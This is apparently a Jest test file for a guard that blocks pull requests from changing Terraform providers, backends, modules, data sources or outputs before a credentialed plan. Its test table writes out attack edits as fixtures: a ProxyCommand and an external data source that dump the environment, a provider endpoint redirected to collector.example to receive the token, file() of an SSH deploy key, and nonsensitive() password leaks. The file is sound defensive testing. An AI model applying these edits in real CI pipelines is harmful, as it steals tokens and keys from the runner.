import { checkCandidate, interpolations } from "../../scripts/plan-guard";
import { goodSpec } from "../fixtures/specs";
import { synthHomelab } from "../helpers/synth";
import { TerraformStack } from "cdktf";

const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v));

/** main's stacks as the plan job's trusted synth would produce them. */
const lab = synthHomelab(goodSpec);
const trusted = new Map<string, any>(
  lab.app.node
    .findAll()
    .filter(TerraformStack.isStack)
    .map((s) => [s.node.id, lab.json(s)]),
);
const dockerStack = [...trusted.keys()].find((n) => trusted.get(n).provider?.docker)!;
const vmStack = [...trusted.keys()].find((n) => trusted.get(n).provider?.hcloud)!;

/** The candidate = main with one edit to one stack. */
function edited(stack: string, edit: (json: any) => void): Map<string, any> {
  const c = new Map([...trusted].map(([k, v]) => [k, clone(v)]));
  edit(c.get(stack));
  return c;
}

describe("plan guard: what a pull request's synthesized Terraform may change before a credentialed plan", () => {
  test("main's own synth passes, and so does a changed resource or a moved provider version", () => {
    expect(checkCandidate(trusted, trusted)).toEqual([]);
    const c = edited(dockerStack, (j) => {
      const [id] = Object.keys(j.resource.docker_container);
      j.resource.docker_container[id].memory = 999;
      j.terraform.required_providers.docker.version = "3.6.3";
    });
    expect(checkCandidate(trusted, c)).toEqual([]);
  });

  test.each([
    ["a Docker ProxyCommand (runs a local command during plan)", dockerStack, (j: any) => j.provider.docker[0].ssh_opts.push("-o", "ProxyCommand=sh -c 'env > /tmp/x'"), /provider configuration differs from main's \(docker\)/],
    ["a Hetzner endpoint of the PR's choosing (receives the token)", vmStack, (j: any) => (j.provider.hcloud[0].endpoint = "https://collector.example"), /provider configuration differs from main's \(hcloud\)/],
    ["a provider source swapped for another publisher's", dockerStack, (j: any) => (j.terraform.required_providers.docker.source = "someone/docker"), /terraform block \(backend or provider sources\) differs/],
    ["a changed backend", dockerStack, (j: any) => (j.terraform.backend = { local: { path: "/tmp/elsewhere.tfstate" } }), /terraform block/],
    ["an external data source (runs a program during plan)", dockerStack, (j: any) => (j.data = { ...j.data, external: { x: { program: ["sh", "-c", "env"] } } }), /data source type external does not belong/],
    ["a resource of a provider the stack does not use", dockerStack, (j: any) => (j.resource.local_file = { x: { filename: "/tmp/x", content: "y" } }), /resource type local_file does not belong/],
    ["a module (fetches and runs someone else's configuration)", dockerStack, (j: any) => (j.module = { m: { source: "git::https://example.invalid/m" } }), /top-level block "module" is not allowed/],
    ["nonsensitive() of an input", dockerStack, (j: any) => (j.output = { ...j.output, leak: { value: "${nonsensitive(var.smtp_password)}" } }), /calls nonsensitive\(\)/],
    ["file() of the runner's deploy key", dockerStack, (j: any) => (j.output = { ...j.output, k: { value: "${file(\"~/.ssh/id_ed25519\")}", sensitive: true } }), /calls file\(\)/],
    ["an input re-declared as not sensitive", dockerStack, (j: any) => (j.variable.smtp_password.sensitive = false), /variable\.smtp_password differs from main's declaration/],
    ["a new plain output", dockerStack, (j: any) => (j.output = { ...j.output, plain: { value: "${var.smtp_password}" } }), /output\.plain is new or changed and not sensitive/],
    ["a remote state main does not read", dockerStack, (j: any) => (j.data.terraform_remote_state = { other: { backend: "local", config: { path: "/tmp/other.tfstate" } } }), /data\.terraform_remote_state\.other reads a state main does not read/],
  ])("fails on %s", (_what, stack, edit, message) => {
    const problems = checkCandidate(trusted, edited(stack, edit));
    expect(problems.join("\n")).toMatch(message);
  });

  test("a stack main does not have, or a missing one, is refused", () => {
    const extra = new Map(trusted);
    extra.set("attacker", {});
    expect(checkCandidate(trusted, extra).join("\n")).toMatch(/attacker: a stack main does not have/);
    const missing = new Map(trusted);
    missing.delete(vmStack);
    expect(checkCandidate(trusted, missing).join("\n")).toMatch(new RegExp(`${vmStack}: missing from the pull request's synth`));
  });

  test("every problem is listed at once", () => {
    const c = edited(dockerStack, (j) => {
      j.module = {};
      j.provider.docker[0].host = "ssh://deploy@elsewhere";
    });
    expect(checkCandidate(trusted, c)).toHaveLength(2);
  });

  test("only ${...} expressions count: literal text and escaped $${ do not", () => {
    expect(interpolations('echo "the file (below)" $${file("x")} ${var.a} ${jsonencode({a = 1})}')).toEqual(["var.a", "jsonencode({a = 1})"]);
  });
});
